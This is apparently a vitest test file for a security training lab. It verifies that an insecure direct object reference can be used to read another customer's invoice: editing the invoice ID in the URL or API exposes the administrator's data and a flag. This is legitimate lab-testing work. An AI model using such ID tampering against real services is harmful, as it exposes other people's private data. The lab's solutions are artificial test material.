import { afterEach, describe, expect, it } from 'vitest';
import { showsFlag, startTestLab } from '../host/test-harness';

describe('lab web-idor-invoices', () => {
  let lab: Awaited<ReturnType<typeof startTestLab>>;
  afterEach(() => lab.close());

  async function signIn() {
    const account = await lab.post('/login', { username: 'wiener', password: 'peter' });
    expect(account.status).toBe(200);
    return account;
  }

  it("is solved by changing the invoice number in the URL to the administrator's invoice", async () => {
    lab = await startTestLab('web-idor-invoices');
    const account = await signIn();
    expect(account.body).toContain('href="invoices/1053"');
    const own = await lab.get('/invoices/1053');
    expect(own.body).toContain('Wiener Stationers');
    // Counting down from your own numbers: 1050 and 1048 were voided, 1049 is someone else's.
    expect((await lab.get('/invoices/1050')).status).toBe(404);
    const admin = await lab.get('/invoices/1049');
    expect(admin.status).toBe(200);
    expect(admin.body).toContain('hcpg_live_7Qm2v9XkT4rW8zLp');
    expect(showsFlag(admin.body, lab.flag)).toBe(true);
  });

  it('is solved through the JSON API in the request editor, with the session cookie', async () => {
    lab = await startTestLab('web-idor-invoices');
    await signIn();
    const session = lab.jar.get('session')!;
    const answer = await lab.editor({
      method: 'GET',
      path: '/api/invoices/1049',
      headers: `Cookie: session=${session}`,
    });
    expect(answer.body).toContain('&quot;customer&quot;: &quot;administrator&quot;');
    expect(answer.body).toContain(`&quot;flag&quot;: &quot;${lab.flag}&quot;`);
    expect(showsFlag(answer.body, lab.flag)).toBe(true);
  });

  it("shows no flag for your own invoices, another customer's invoice, or without a session", async () => {
    lab = await startTestLab('web-idor-invoices');
    // No session: authentication is enforced, on the page and in the API.
    const anonymous = await lab.get('/invoices/1049');
    expect(anonymous.status).toBe(401);
    expect(anonymous.body).not.toContain(lab.flag);
    expect((await lab.get('/api/invoices/1049')).status).toBe(401);

    await signIn();
    for (const id of ['1042', '1047', '1053']) {
      const own = await lab.get(`/api/invoices/${id}`);
      expect(JSON.parse(own.body)).toMatchObject({ customer: 'wiener' });
      expect(own.body).not.toContain(lab.flag);
    }
    // Ravi's invoice is readable too (the same flaw), but the objective is the administrator's.
    const ravi = await lab.get('/invoices/1046');
    expect(ravi.body).toContain('Kumar Textiles');
    expect(ravi.body).not.toContain(lab.flag);
    expect(showsFlag(ravi.body, lab.flag)).toBe(false);
    // A forged session cookie is not a way in.
    const forged = await lab.editor({ method: 'GET', path: '/api/invoices/1049', headers: 'Cookie: session=wiener' });
    expect(forged.body).toContain('401');
    expect(forged.body).not.toContain(lab.flag);
  });
});
